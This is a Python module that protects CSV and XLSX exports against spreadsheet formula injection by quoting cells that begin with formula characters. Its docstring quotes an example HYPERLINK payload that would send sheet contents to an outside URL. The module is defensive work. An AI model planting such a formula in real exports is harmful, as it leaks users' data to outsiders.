"""Cells for every file we export (CSV and XLSX), safe to open in a spreadsheet.

A text cell that begins with =, +, -, @, a tab or a carriage return is run as a formula by Excel,
LibreOffice and Google Sheets (CSV injection: `=HYPERLINK("http://…?leak="&A3,"Click")` in a service name
would send the sheet's contents elsewhere). Following OWASP's advice, such a cell is prefixed with a single
quote, so it is shown as the text it is and never run. Numbers we computed (int, float, Decimal; never a
bool) are kept as numbers. Every export writes its cells through `safe_cell`, `csv_row` or `xlsx_append`.
"""

from __future__ import annotations

from collections.abc import Iterable
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value to write into a cell: None as empty, computed numbers unchanged, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_row(values: Iterable) -> list:
    """A row for `csv.writer.writerow`, every cell through `safe_cell`."""
    return [safe_cell(value) for value in values]


def xlsx_append(sheet, values: Iterable) -> None:
    """Append a row to an openpyxl worksheet: text cells are always strings (never formulas), computed
    numbers are numbers."""
    from openpyxl.cell.cell import Cell

    cells = []
    for value in values:
        safe = safe_cell(value)
        if isinstance(safe, str):
            cell = Cell(sheet)
            cell._value = safe  # set directly: openpyxl would take a leading "=" for a formula
            cell.data_type = "s"
            cells.append(cell)
        else:
            cells.append(safe)
    sheet.append(cells)
